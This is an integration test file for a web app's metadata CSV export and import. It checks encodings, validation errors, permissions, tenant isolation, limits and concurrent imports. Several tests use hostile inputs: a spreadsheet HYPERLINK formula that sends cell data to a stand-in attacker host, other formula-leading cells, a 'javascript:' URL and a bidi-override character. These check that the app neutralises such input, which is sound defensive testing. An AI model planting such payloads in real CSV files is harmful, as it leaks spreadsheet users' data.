/**
 * Metadata CSV export and import (issue #14, ADR 0033) through the public API and the browse page,
 * in workerd against real local D1 and R2: the round trip, per-row errors that leave bad rows
 * alone, Shift_JIS from a file made by iconv, UTF-8 with a byte-order mark, formula injection,
 * other tenants' and projects' ids, permissions, limits, bursts of concurrent imports, and large
 * exports paged under D1's limits. Exports are read back with csv-parse, not with the app's reader.
 */
import { env } from "cloudflare:test";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { pseudoRandomBytes, seedAssets, uploadAsset, waitProcessed, type AssetBody } from "../../support/assets";
import { browserSignIn, call, ORIGIN, type ApiErrorBody } from "../../support/http";
import { shardOf } from "../../support/shards";
import { buildWorld, expectJson, PASSWORD, snapshotTenant, type World } from "../../support/world";

type Report = {
  dryRun: boolean;
  encoding: string;
  rows: number;
  updated: number;
  unchanged: number;
  failed: number;
  columns: { applied: string[]; readOnly: string[]; unknown: string[] };
  errors: { row: number; column: string; message: string }[];
  errorsOmitted: number;
};

let w: World;
let a1: string;
let a2: string;
let a3: string;
let seed = 700;

const admin = () => w.users.tenantAdmin.token;

/** Every cell quoted, CRLF: how a spreadsheet saves a CSV (written here, not with the app's writer). */
function toCsv(rows: readonly (readonly string[])[]): string {
  return rows.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(",")).join("\r\n") + "\r\n";
}

/** `bytes` with the first run of the ASCII bytes of `from` replaced by those of `to`. */
function replaceAscii(bytes: Uint8Array, from: string, to: string): Uint8Array<ArrayBuffer> {
  const needle = [...from].map((c) => c.charCodeAt(0));
  const at = bytes.findIndex((_, i) => needle.every((b, k) => bytes[i + k] === b));
  if (at < 0) throw new Error(`no ${from} in the fixture`);
  return Uint8Array.from([...bytes.subarray(0, at), ...[...to].map((c) => c.charCodeAt(0)), ...bytes.subarray(at + needle.length)]);
}

function readCsv(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: true }) as string[][];
}

async function newAsset(name: string, projectId = w.p1, token = admin()) {
  const created = await uploadAsset(token, projectId, name, pseudoRandomBytes(400, ++seed));
  return (await waitProcessed(token, created.id)).id;
}

const getAsset = (id: string, token = admin()) => expectJson<AssetBody>(call(`/api/v1/assets/${id}`, { token }), 200);
const patch = (id: string, json: unknown) => expectJson<AssetBody>(call(`/api/v1/assets/${id}`, { method: "PATCH", json, token: admin() }), 200);

function exportRes(body: unknown, token = admin(), projectId = w.p1) {
  return call(`/api/v1/projects/${projectId}/assets/metadata-export`, { method: "POST", json: body, token });
}

async function exportCsv(body: unknown, token = admin(), projectId = w.p1) {
  const res = await exportRes(body, token, projectId);
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect(res.status, new TextDecoder().decode(bytes).slice(0, 300)).toBe(200);
  expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder().decode(bytes);
  return { text, rows: readCsv(text) };
}

function importRes(csv: string | Uint8Array<ArrayBuffer>, query = "", init: { token?: string; contentType?: string; projectId?: string } = {}) {
  return call(`/api/v1/projects/${init.projectId ?? w.p1}/assets/metadata-import${query}`, {
    method: "POST",
    token: init.token ?? admin(),
    headers: { "Content-Type": init.contentType ?? "text/csv" },
    body: csv,
  });
}

const importCsv = async (csv: string | Uint8Array<ArrayBuffer>, query = "") => expectJson<Report>(importRes(csv, query), 200);

async function expectError(res: Response | Promise<Response>, status: number, code: string) {
  const r = await res;
  const text = await r.text();
  expect(r.status, text.slice(0, 300)).toBe(status);
  expect((JSON.parse(text) as ApiErrorBody).error.code).toBe(code);
  return JSON.parse(text) as ApiErrorBody;
}

/** A row of an export by asset id, as {header: cell}. */
function rowOf(rows: string[][], id: string): Record<string, string> {
  const [header, ...data] = rows;
  const row = data.find((r) => r[0] === id);
  if (!row) throw new Error(`no row for ${id}`);
  return Object.fromEntries(header!.map((h, i) => [h, row[i]!]));
}

type AuditItem = { action: string; details?: Record<string, unknown> | null };
const auditOf = async (action: string) =>
  (await expectJson<{ items: AuditItem[] }>(call(`/api/v1/audit?action=${action}&limit=200`, { token: admin() }), 200)).items;

beforeAll(async () => {
  w = await buildWorld("mcsv");
  const field = (key: string, type: string, options?: string[]) =>
    expectJson(call("/api/v1/metadata-fields", { method: "POST", json: { key, label: key, type, ...(options ? { options } : {}) }, token: admin() }), 201);
  await field("scene", "text");
  await field("shot_date", "date");
  await field("take", "number");
  await field("approved", "boolean");
  await field("mood", "multiselect", ["明るい", "静か", "緊張"]);
  await field("notes", "textarea");
  await field("link", "url");
  [a1, a2, a3] = [await newAsset("渋谷ロケ_01.mov"), await newAsset("新宿_02.mov"), await newAsset("池袋_03.mov")];
}, 120_000);

describe("export", () => {
  it("writes a selection with its fixed, technical and metadata columns; lists and multi-line text survive quoting", async () => {
    const notes = 'line one, with a comma\n"quoted" line two';
    await patch(a1, {
      tags: ["渋谷", "夜景"],
      colorLabel: "red",
      metadata: { scene: "夜の交差点", shot_date: "2026-03-01", take: 3, approved: true, mood: ["明るい", "静か"], notes, link: "https://example.com/a" },
    });
    const { text, rows } = await exportCsv({ assetIds: [a1, a2] });
    expect(text.split("\r\n")[0]).toMatch(/^"id","name","folder","tags","colorLabel","kind","contentType","size","createdAt","container","durationSeconds"/);
    expect(rows[0]).toEqual(expect.arrayContaining(["metadata.scene", "metadata.shot_date", "metadata.take", "metadata.mood", "metadata.notes"]));
    expect(rows).toHaveLength(3);
    const row = rowOf(rows, a1);
    expect(row).toMatchObject({
      name: "渋谷ロケ_01.mov",
      folder: "",
      tags: "夜景\n渋谷",
      colorLabel: "red",
      "metadata.scene": "夜の交差点",
      "metadata.shot_date": "2026-03-01",
      "metadata.take": "3",
      "metadata.approved": "true",
      "metadata.mood": "明るい\n静か",
      "metadata.notes": notes,
      "metadata.link": "https://example.com/a",
    });
    expect(rowOf(rows, a2)["metadata.scene"]).toBe("");
  });

  it("neutralises formula injection: such cells start with an apostrophe, and an import of the export gives the values back exactly", async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
    await patch(a3, { tags: ["@SUM(1+1)", "+cmd", "-x"], metadata: { scene: hyperlink, take: -5, notes: "'=already apostrophed" } });
    const before = await getAsset(a3);
    const { text, rows } = await exportCsv({ assetIds: [a3] });
    // No cell of the file starts with a formula character.
    expect(text).not.toMatch(/(^|,)"[=+\-@\t\r]/m);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")"`);
    const row = rowOf(rows, a3);
    expect(row["metadata.scene"]).toBe(`'${hyperlink}`);
    expect(row["metadata.take"]).toBe("'-5");
    expect(row["metadata.notes"]).toBe("''=already apostrophed");
    expect(row.tags).toBe("'+cmd\n-x\n@SUM(1+1)");

    const report = await importCsv(text);
    expect(report).toMatchObject({ rows: 1, updated: 0, unchanged: 1, failed: 0 });
    const after = await getAsset(a3);
    expect(after.metadata).toEqual(before.metadata);
    expect(after.tags).toEqual(before.tags);
  });

  it("folders: the folder alone, or with its subfolders (paths from the root); the top level; 404 outside the project", async () => {
    const f = await expectJson<{ id: string }>(call(`/api/v1/projects/${w.p1}/folders`, { method: "POST", json: { name: "ロケ" }, token: admin() }), 201);
    const g = await expectJson<{ id: string }>(
      call(`/api/v1/projects/${w.p1}/folders`, { method: "POST", json: { name: "Day 1", parentId: f.id }, token: admin() }),
      201,
    );
    const inF = (await uploadAsset(admin(), w.p1, "in-f.mov", pseudoRandomBytes(300, ++seed), { folderId: f.id })).id;
    const inG = (await uploadAsset(admin(), w.p1, "in-g.mov", pseudoRandomBytes(300, ++seed), { folderId: g.id })).id;
    await waitProcessed(admin(), inF);
    await waitProcessed(admin(), inG);

    const only = await exportCsv({ folderId: f.id });
    expect(only.rows.slice(1).map((r) => r[0])).toEqual([inF]);
    const deep = await exportCsv({ folderId: f.id, subfolders: true });
    expect(
      deep.rows
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual([inF, inG].sort());
    expect(rowOf(deep.rows, inG).folder).toBe("ロケ/Day 1");
    expect(rowOf(deep.rows, inF).folder).toBe("ロケ");
    const top = await exportCsv({ folderId: "root" });
    expect(top.rows.slice(1).map((r) => r[0])).toEqual(expect.arrayContaining([a1, a2, a3]));
    expect(top.rows.slice(1).map((r) => r[0])).not.toContain(inF);
    const all = await exportCsv({ folderId: "root", subfolders: true });
    expect(all.rows.slice(1).map((r) => r[0])).toEqual(expect.arrayContaining([a1, inF, inG]));

    const elsewhere = await expectJson<{ id: string }>(
      call(`/api/v1/projects/${w.p2}/folders`, { method: "POST", json: { name: "P2 folder" }, token: admin() }),
      201,
    );
    await expectError(exportRes({ folderId: elsewhere.id }), 404, "not_found");
    const p2Asset = await newAsset("p2.mov", w.p2);
    await expectError(exportRes({ assetIds: [a1, p2Asset] }), 404, "not_found");
    await expectError(exportRes({ assetIds: [] }), 400, "validation_failed");
    await expectError(exportRes({ folderId: "root", assetIds: [a1] }), 400, "validation_failed");
  });

  it("pages through a large project (1,234 assets, in name order) under D1's limits, and records the count", async () => {
    const project = await expectJson<{ id: string }>(call("/api/v1/projects", { method: "POST", json: { name: "mcsv-large" }, token: admin() }), 201);
    const seeded = await seedAssets(await shardOf(w.tenantA.id), env.ASSETS, { tenantId: w.tenantA.id, projectId: project.id }, 1234);
    const { rows } = await exportCsv({ folderId: "root", subfolders: true }, admin(), project.id);
    const ids = rows.slice(1).map((r) => r[0]);
    expect(ids).toHaveLength(1234);
    expect(new Set(ids)).toEqual(new Set(seeded.map((s) => s.id)));
    const names = rows.slice(1).map((r) => r[1]!);
    expect(names).toEqual([...names].sort());
    const event = (await auditOf("metadata.exported")).find((e) => e.details?.count === 1234);
    expect(event?.details).toMatchObject({ scope: "folder", folderId: "root", subfolders: true, count: 1234 });
  });
});

describe("import", () => {
  it("round trip: export, edit one value in the text, import; that value changed and nothing else", async () => {
    const before = await getAsset(a1);
    const { rows } = await exportCsv({ assetIds: [a1, a2] });
    const again = await importCsv(toCsv(rows));
    expect(again).toMatchObject({ rows: 2, updated: 0, unchanged: 2, failed: 0, errors: [] });
    expect(again.columns.readOnly).toEqual(expect.arrayContaining(["name", "folder", "kind", "durationSeconds", "startTimecode"]));
    expect(again.columns.applied).toEqual(expect.arrayContaining(["tags", "colorLabel", "metadata.scene"]));

    const sceneAt = rows[0]!.indexOf("metadata.scene");
    const edited = rows.map((r) => (r[0] === a1 ? r.map((c, i) => (i === sceneAt ? "昼の交差点, 晴れ" : c)) : r));
    const report = await importCsv(toCsv(edited));
    expect(report).toMatchObject({ rows: 2, updated: 1, unchanged: 1, failed: 0 });
    const after = await getAsset(a1);
    expect(after.metadata).toEqual({ ...before.metadata, scene: "昼の交差点, 晴れ" });
    expect(after.tags).toEqual(before.tags);
    expect(after.colorLabel).toBe(before.colorLabel);
    // The search index follows.
    const found = await expectJson<{ items: { id: string }[] }>(
      call(`/api/v1/projects/${w.p1}/assets?q=${encodeURIComponent("昼の交差点")}`, { token: admin() }),
      200,
    );
    expect(found.items.map((i) => i.id)).toContain(a1);
    const event = (await auditOf("metadata.imported"))[0];
    expect(event?.details).toMatchObject({ rows: 2, updated: 1, unchanged: 1, failed: 0, assetIds: [a1], encoding: "utf-8" });
  });

  it("a row with a bad date is reported with its row number and not applied; the other rows are", async () => {
    const before = await getAsset(a1);
    const csv = toCsv([
      ["id", "metadata.shot_date", "metadata.take"],
      [a1, "2026-02-30", "4"],
      [a2, "2026/4/1", "5"],
    ]);
    const report = await importCsv(csv);
    expect(report).toMatchObject({ rows: 2, updated: 1, unchanged: 0, failed: 1 });
    expect(report.errors).toEqual([{ row: 2, column: "metadata.shot_date", message: "Must be a date (YYYY-MM-DD)." }]);
    const after1 = await getAsset(a1);
    expect(after1.metadata).toEqual(before.metadata);
    expect((await getAsset(a2)).metadata).toMatchObject({ shot_date: "2026-04-01", take: 5 });
  });

  it("checks every cell as PATCH does, reports each bad cell, and clears a value for an empty cell", async () => {
    await patch(a2, { metadata: { approved: true, link: "https://example.com/keep" } });
    const csv = toCsv([
      ["id", "metadata.take", "metadata.approved", "metadata.mood", "metadata.link", "colorLabel", "tags", "metadata.scene"],
      [a1, "many", "perhaps", "明るい\n眠い", "javascript:alert(1)", "pink", "ok\nbad\u202Etag", "two\nlines"],
      [a2, "１２", "いいえ", "", "", "BLUE", "", ""],
    ]);
    const report = await importCsv(csv);
    expect(report).toMatchObject({ updated: 1, failed: 1 });
    expect(report.errors.map((e) => [e.row, e.column])).toEqual([
      [2, "metadata.take"],
      [2, "metadata.approved"],
      [2, "metadata.mood"],
      [2, "metadata.link"],
      [2, "colorLabel"],
      [2, "tags"],
      [2, "metadata.scene"],
    ]);
    const a2now = await getAsset(a2);
    expect(a2now.metadata.take).toBe(12);
    expect(a2now.metadata.approved).toBe(false);
    expect(a2now.metadata.link).toBeUndefined();
    expect(a2now.colorLabel).toBe("blue");
    expect(a2now.tags).toEqual([]);
  });

  it("imports a Shift_JIS file made by iconv (Japanese tags and values, CP932 extensions, the wave dash)", async () => {
    const fixture = Uint8Array.from(atob(env.TEST_CSV_FIXTURES["metadata-shift-jis.csv"]!), (c) => c.charCodeAt(0));
    // The placeholder ids are ASCII, the same bytes in Shift_JIS: swapped byte for byte, nothing is decoded.
    const bytes = replaceAscii(replaceAscii(fixture, "ast_FIXTURE000000000000000001", a1), "ast_FIXTURE000000000000000002", a2);
    expect(() => new TextDecoder("utf-8", { fatal: true }).decode(bytes)).toThrow();

    await expectError(importRes(bytes, "?encoding=utf-8"), 400, "bad_request");
    const report = await importCsv(bytes);
    expect(report).toMatchObject({ encoding: "shift_jis", rows: 2, updated: 2, failed: 0, errors: [] });
    expect(report.columns.readOnly).toEqual(["name"]);
    const one = await getAsset(a1);
    expect(one.tags).toEqual(["夜景", "渋谷"]);
    expect(one.colorLabel).toBe("red");
    expect(one.metadata.scene).toBe("交差点①\uff5e夜 髙橋");
    expect(one.metadata.mood).toEqual(["明るい", "静か"]);
    expect(one.name).toBe("渋谷ロケ_01.mov");
    const two = await getAsset(a2);
    expect(two.tags).toEqual(["㈱撮影", "新宿"]);
    expect(two.colorLabel).toBeNull();
    expect(two.metadata.scene).toBe('ビル、"屋上"');
    // Said explicitly, or by the body's charset, it reads the same (and changes nothing more).
    expect(await importCsv(bytes, "?encoding=shift_jis")).toMatchObject({ encoding: "shift_jis", unchanged: 2 });
    expect(await expectJson<Report>(importRes(bytes, "", { contentType: "text/csv; charset=Windows-31J" }), 200)).toMatchObject({ unchanged: 2 });
  });

  it("imports UTF-8 with a byte-order mark, and as the file field of a multipart form", async () => {
    const csv = toCsv([
      ["id", "tags", "metadata.scene"],
      [a1, "BOM付き", "UTF-8 の値"],
    ]);
    const bytes = new TextEncoder().encode(`\uFEFF${csv}`);
    const report = await importCsv(bytes);
    expect(report).toMatchObject({ encoding: "utf-8", updated: 1, errors: [] });
    expect((await getAsset(a1)).metadata.scene).toBe("UTF-8 の値");
    // The byte-order mark says UTF-8 even when Shift_JIS is asked for.
    expect(await importCsv(bytes, "?encoding=shift_jis")).toMatchObject({ encoding: "utf-8", unchanged: 1 });

    const form = new FormData();
    form.set(
      "file",
      new File(
        [
          toCsv([
            ["id", "metadata.scene"],
            [a1, "multipart"],
          ]),
        ],
        "edited.csv",
        { type: "text/csv" },
      ),
    );
    const res = await call(`/api/v1/projects/${w.p1}/assets/metadata-import`, { method: "POST", token: admin(), body: form });
    expect(await expectJson<Report>(res, 200)).toMatchObject({ updated: 1 });
    expect((await getAsset(a1)).metadata.scene).toBe("multipart");
  });

  it("ids of another tenant, another project, or no asset at all are reported as not found and change nothing", async () => {
    const b = w.users.otherTenantAdmin.token;
    const bProject = await expectJson<{ id: string }>(call("/api/v1/projects", { method: "POST", json: { name: "B project" }, token: b }), 201);
    const foreign = await newAsset("tenant-b.mov", bProject.id, b);
    const otherProject = await newAsset("other-project.mov", w.p2);
    const foreignBefore = await getAsset(foreign, b);
    const otherBefore = await getAsset(otherProject);
    const csv = toCsv([
      ["id", "metadata.scene", "tags"],
      [foreign, "stolen", "x"],
      [otherProject, "moved", "x"],
      ["ast_aaaaaaaaaaaaaaaaaaaaaaaaaa", "nobody", "x"],
      ["not-an-id", "nobody", "x"],
      ["", "no id", "x"],
    ]);
    const report = await importCsv(csv);
    expect(report).toMatchObject({ rows: 5, updated: 0, failed: 5 });
    const notFound = "No asset with this id in this project.";
    expect(report.errors).toEqual([
      { row: 2, column: "id", message: notFound },
      { row: 3, column: "id", message: notFound },
      { row: 4, column: "id", message: notFound },
      { row: 5, column: "id", message: notFound },
      { row: 6, column: "id", message: "The id is empty." },
    ]);
    expect(await getAsset(foreign, b)).toEqual(foreignBefore);
    expect(await getAsset(otherProject)).toEqual(otherBefore);
    // Tenant B's admin cannot import into tenant A's project at all.
    await expectError(importRes(csv, "", { token: b }), 404, "not_found");
  });

  it("a preview (dryRun) reports what would change and changes nothing, not even the audit log", async () => {
    const csv = toCsv([
      ["id", "metadata.scene"],
      [a2, "preview only"],
    ]);
    const events = (await auditOf("metadata.imported")).length;
    const before = await snapshotTenant(w.tenantA.id);
    expect(await importCsv(csv, "?dryRun=true")).toMatchObject({ dryRun: true, updated: 1 });
    expect(await snapshotTenant(w.tenantA.id)).toBe(before);
    expect((await auditOf("metadata.imported")).length).toBe(events);
    await expectError(importRes(csv, "?dryRun=maybe"), 400, "validation_failed");
    await expectError(importRes(csv, "?encoding=latin1"), 400, "validation_failed");
  });

  it("rows that do not fit: wrong cell counts, repeated ids, unknown columns, blank lines", async () => {
    const text =
      `id,metadata.scene,metadata.nope,tags\r\n` +
      `${a1},first,x,\r\n` +
      `\r\n` +
      `${a2},short\r\n` +
      `${a1},again,x,\r\n` +
      `${a3},"with ""quotes"", commas\nand lines",x,\r\n`;
    const report = await importCsv(text);
    expect(report.columns.unknown).toEqual(["metadata.nope"]);
    expect(report.rows).toBe(4);
    // "scene" is a one-line text field: the multi-line value is refused; a1's first row applies.
    expect(report.errors).toEqual([
      { row: 4, column: "", message: "This row has 2 cells; the header has 4." },
      { row: 5, column: "id", message: "This asset is already on row 2." },
      { row: 6, column: "metadata.scene", message: "Must be a single line." },
    ]);
    expect(report).toMatchObject({ updated: 1, failed: 3 });
    expect((await getAsset(a1)).metadata.scene).toBe("first");
    const notes = await importCsv(
      toCsv([
        ["id", "metadata.notes"],
        [a3, 'with "quotes", commas\nand lines'],
      ]),
    );
    expect(notes.updated).toBe(1);
    expect((await getAsset(a3)).metadata.notes).toBe('with "quotes", commas\nand lines');
  });

  it("refuses files it cannot take with a clear 4xx, never a 500", async () => {
    const header = "id,metadata.scene\r\n";
    const tooMany = header + Array.from({ length: 5001 }, (_, i) => `${a1},v${i}\r\n`).join("");
    const big = await expectError(importRes(tooMany), 413, "too_large");
    expect(big.error.message).toMatch(/5000 rows/);
    await expectError(importRes(header + "x".repeat(5 * 1024 * 1024)), 413, "too_large");
    await expectError(importRes(new Uint8Array([0xff, 0xfe, 0x69, 0x00, 0x64, 0x00])), 400, "bad_request");
    await expectError(importRes(new Uint8Array([0x69, 0x64, 0x0a, 0x82, 0xff, 0x80])), 400, "bad_request");
    await expectError(importRes("name,tags\r\nx,y\r\n"), 400, "bad_request");
    await expectError(importRes("id,tags,TAGS\r\n"), 400, "bad_request");
    await expectError(importRes(""), 400, "bad_request");
    const open = await expectError(importRes(`id,metadata.scene\r\n${a1},"never closed\r\n`), 400, "bad_request");
    expect(open.error.message).toMatch(/line \d/);
    await expectError(importRes(JSON.stringify({ id: a1 }), "", { contentType: "application/json" }), 400, "bad_request");
    const noFile = new FormData();
    noFile.set("other", "x");
    await expectError(call(`/api/v1/projects/${w.p1}/assets/metadata-import`, { method: "POST", token: admin(), body: noFile }), 400, "bad_request");
    await expectError(importRes("id\r\n", "", { contentType: "multipart/form-data; boundary=XYZ" }), 400, "bad_request");
  });

  it("needs asset.edit_metadata to import and asset.view to export; outsiders get 404", async () => {
    const csv = toCsv([
      ["id", "metadata.scene"],
      [a1, "viewer was here"],
    ]);
    const before = await snapshotTenant(w.tenantA.id);
    await expectError(importRes(csv, "", { token: w.users.viewer.token }), 403, "forbidden");
    await expectError(importRes(csv, "", { token: w.users.custom.token }), 403, "forbidden");
    await expectError(importRes(csv, "", { token: w.users.otherProject.token }), 404, "not_found");
    expect(await snapshotTenant(w.tenantA.id)).toBe(before);
    const asViewer = await exportCsv({ assetIds: [a1] }, w.users.viewer.token);
    expect(asViewer.rows).toHaveLength(2);
    await expectError(exportRes({ assetIds: [a1] }, w.users.otherProject.token), 404, "not_found");
    await expectError(exportRes({ assetIds: [a1] }, w.users.otherTenantAdmin.token), 404, "not_found");
    expect(await expectJson<Report>(importRes(csv, "", { token: w.users.member.token }), 200)).toMatchObject({ updated: 1 });
  });
});

describe("concurrent imports", () => {
  async function tagRows(ids: string[]) {
    const db = await shardOf(w.tenantA.id);
    const out: Record<string, string[]> = {};
    for (const id of ids) {
      const rows = await db
        .prepare("SELECT tag FROM asset_tags WHERE tenant_id = ? AND asset_id = ? ORDER BY tag")
        .bind(w.tenantA.id, id)
        .all<{ tag: string }>();
      out[id] = rows.results.map((r) => r.tag);
    }
    return out;
  }

  it("a burst of the same file: nothing fails, and the assets end with its values, their tag rows agreeing", async () => {
    const ids = [a1, a2, a3];
    const csv = toCsv([["id", "metadata.scene", "tags"], ...ids.map((id) => [id, "burst", "burst\nsame"])]);
    const responses = await Promise.all(Array.from({ length: 8 }, () => importRes(csv)));
    const statuses = await Promise.all(responses.map(async (r) => [r.status, await r.text()] as const));
    for (const [status, text] of statuses) expect([200, 409], text.slice(0, 200)).toContain(status);
    expect(statuses.filter(([s]) => s === 200).length).toBeGreaterThan(0);
    const written = statuses.filter(([s]) => s === 200).map(([, text]) => (JSON.parse(text) as Report).updated);
    // The assets were changed once: every other import found them up to date.
    expect(written.reduce((a, b) => a + b, 0)).toBe(3);
    for (const id of ids) {
      const asset = await getAsset(id);
      expect(asset.metadata.scene).toBe("burst");
      expect(asset.tags).toEqual(["burst", "same"]);
    }
    expect(await tagRows(ids)).toEqual(Object.fromEntries(ids.map((id) => [id, ["burst", "same"]])));
  });

  it("a burst of two different files: each import is all or nothing, so every asset ends with the same file's values", async () => {
    const ids = [a1, a2, a3];
    const file = (v: string) => toCsv([["id", "metadata.scene", "tags"], ...ids.map((id) => [id, v, v])]);
    const responses = await Promise.all(Array.from({ length: 8 }, (_, i) => importRes(file(i % 2 ? "odd" : "even"))));
    for (const r of responses) expect([200, 409], await r.text()).toContain(r.status);
    const scenes = await Promise.all(ids.map(async (id) => (await getAsset(id)).metadata.scene as string));
    expect(new Set(scenes).size).toBe(1);
    const rows = await tagRows(ids);
    for (const id of ids) expect(rows[id]).toEqual([scenes[0]]);
  });
});

describe("the browse page", () => {
  let cookie: string;
  beforeAll(async () => {
    cookie = await browserSignIn({ tenant: w.tenantA.slug, email: w.users.tenantAdmin.email, password: PASSWORD });
  });

  function pagePost(path: string, body: FormData | URLSearchParams, lang = "en") {
    return call(path, {
      method: "POST",
      redirect: "manual",
      headers: { Cookie: cookie, Origin: ORIGIN, Host: new URL(ORIGIN).host, "Accept-Language": lang },
      body,
    });
  }

  function importForm(csv: string, dryRun: boolean) {
    const form = new FormData();
    form.set("intent", "metadata-import");
    form.set("encoding", "auto");
    form.set("dryRun", String(dryRun));
    form.set("file", new File([csv], "edited.csv", { type: "text/csv" }));
    return form;
  }

  it("previews, then imports, with the per-row report in the user's language", async () => {
    const csv = toCsv([
      ["id", "metadata.shot_date", "metadata.scene"],
      [a1, "2026-13-01", "page"],
      [a2, "2026-05-05", "page"],
    ]);
    const preview = await pagePost(`/projects/${w.p1}?index`, importForm(csv, true), "ja");
    const html = await preview.text();
    expect(preview.status, html.slice(0, 300)).toBe(200);
    expect(html).toContain('data-testid="csv-report" data-dry-run="yes"');
    expect(html).toMatch(/data-testid="csv-error" data-row="2" data-column="metadata.shot_date"/);
    expect(html).toContain("日付（YYYY-MM-DD）を入力してください。");
    expect((await getAsset(a2)).metadata.scene).not.toBe("page");

    const applied = await pagePost(`/projects/${w.p1}?index`, importForm(csv, false));
    const appliedHtml = await applied.text();
    expect(appliedHtml).toContain('data-dry-run="no"');
    expect(appliedHtml).toContain("2 rows read: 1 updated, 0 already up to date, 1 not applied.");
    expect((await getAsset(a2)).metadata.scene).toBe("page");
    expect((await getAsset(a1)).metadata.scene).not.toBe("page");
  });

  it("refuses a missing file and a file that is not CSV text on the form itself", async () => {
    const empty = new FormData();
    empty.set("intent", "metadata-import");
    empty.set("dryRun", "true");
    const res = await pagePost(`/projects/${w.p1}?index`, empty);
    expect(await res.text()).toContain('data-testid="form-error" data-code="validation_failed"');
    const garbage = importForm("", false);
    garbage.set("file", new File([new Uint8Array([0xff, 0xfe, 0x00, 0x01])], "x.csv"));
    const bad = await pagePost(`/projects/${w.p1}?index`, garbage, "ja");
    const html = await bad.text();
    expect(html).toContain('data-code="bad_request"');
    expect(html).toContain("UTF-8 としても Shift_JIS としても読めませんでした");
    const huge = importForm("", true);
    huge.set("file", new File([`id\r\n${"x".repeat(5 * 1024 * 1024)}`], "huge.csv"));
    const tooLarge = await (await pagePost(`/projects/${w.p1}?index`, huge)).text();
    expect(tooLarge).toContain('data-code="too_large"');
    expect(tooLarge).toContain("The file is over 5 MB.");
  });

  it("exports the selection and the folder as a download named after the project", async () => {
    const res = await pagePost(`/projects/${w.p1}/metadata-export`, new URLSearchParams({ assetIds: `${a1},${a2}` }));
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect(res.status).toBe(200);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(res.headers.get("Content-Disposition")).toMatch(/_metadata\.csv/);
    expect(
      readCsv(new TextDecoder().decode(bytes))
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual([a1, a2].sort());
    const folder = await pagePost(`/projects/${w.p1}/metadata-export`, new URLSearchParams({ folderId: "root", subfolders: "true" }));
    expect(folder.status).toBe(200);
    expect(readCsv(await folder.text()).length).toBeGreaterThan(3);
    const bad = await pagePost(`/projects/${w.p1}/metadata-export`, new URLSearchParams({ assetIds: "nope" }));
    await bad.arrayBuffer();
    expect(bad.status).toBe(400);
  });
});
